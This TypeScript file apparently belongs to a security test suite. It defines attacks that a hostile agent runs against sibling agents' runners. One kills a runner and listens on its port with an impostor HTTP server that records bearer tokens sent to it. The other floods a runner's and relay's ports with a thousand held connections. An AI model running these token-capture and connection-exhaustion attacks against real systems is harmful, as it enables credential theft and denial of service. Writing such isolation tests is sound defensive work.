// Attacks on other agents' runners.
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { RunnerAddress } from '../../contract/wire/runner.ts';
import type { Attack } from '../attack.ts';
import { numberIn, triedBy } from '../evidence.ts';

/** Connections that a process opens, far more than are served. */
const CONNECTIONS = 1_000;

export const RUNNERS: readonly Attack[] = [
  {
    name: 'impostor-runner',
    goal: "receive the token of a sibling's runner on the port of a killed one",
    attempt: async ({ home, hostile, spawn }) => {
      const sibling = await spawn('impersonated');
      const { pid, port } = await addressIn(join(home, 'machines', sibling.machine, 'runner'));
      process.kill(pid, 'SIGKILL');
      const code =
        `const fs=require('fs');const heard=process.env.HOME+'/heard';` +
        `require('http').createServer((q,s)=>{fs.appendFileSync(heard,q.method+' '+q.url+' '+q.headers.authorization+';');s.end('{}')})` +
        `.on('error',(e)=>fs.writeFileSync(heard,e.code)).listen(${String(port)},'127.0.0.1',()=>fs.writeFileSync(heard,'listens;'));` +
        `setTimeout(()=>process.exit(),60000)`;
      const shown = await hostile.shell(
        `rm -f ~/heard; (setsid node -e "${code}" >/dev/null 2>&1 &); for i in $(seq 100); do [ -s ~/heard ] && break; sleep 0.1; done; cat ~/heard`,
      );
      if (!shown.includes('listens;')) throw new Error(`nobody listens on the port: ${shown}`);
      await sibling.shell('true');
      const requests = (await hostile.shell('cat ~/heard')).split(';').filter((line) => /^[A-Z]+ \//.test(line));
      if (requests.length === 0) throw new Error('nobody asked for the runner that was killed');
      return requests.filter((line) => line.includes('Bearer') || !line.startsWith('GET /proof?'));
    },
  },
  {
    name: 'descriptors-of-a-runner',
    goal: "hold so many connections to a runner's ports that its process can serve no other machine",
    attempt: async ({ home, hostile, sibling }) => {
      // An earlier attack may have killed its runner.
      await sibling.shell('true');
      const runner = join(home, 'machines', sibling.machine, 'runner');
      const { port } = await addressIn(runner);
      const relay = JSON.parse(await readFile(join(runner, 'relay.json'), 'utf8')) as { readonly port: number };
      const got: string[] = [];
      for (const [name, each] of [['runner', port] as const, ['relay', relay.port] as const]) {
        const shown = await triedBy(
          hostile,
          `node -e '
            const net = require("net"); let open = 0, settled = 0;
            const one = () => { const c = net.connect(${String(each)}, "127.0.0.1"); c.resume();
              c.on("connect", () => { open += 1; settled += 1; c.on("close", () => (open -= 1)); }).on("error", () => {}); };
            for (let i = 0; i < ${String(CONNECTIONS)}; i += 1) one();
            setTimeout(() => { console.log("of " + settled + " hold " + open); process.exit(); }, 5000);'`,
        );
        if (numberIn(shown, /of (\d+) hold/) === 0) throw new Error(`it could open no connection: ${shown}`);
        const held = numberIn(shown, /hold (\d+)/);
        if (held > 300) got.push(`${String(held)} connections to the ${name}`);
      }
      return got;
    },
  },
];

async function addressIn(runner: string): Promise<RunnerAddress> {
  return JSON.parse(await readFile(join(runner, 'address.json'), 'utf8')) as RunnerAddress;
}
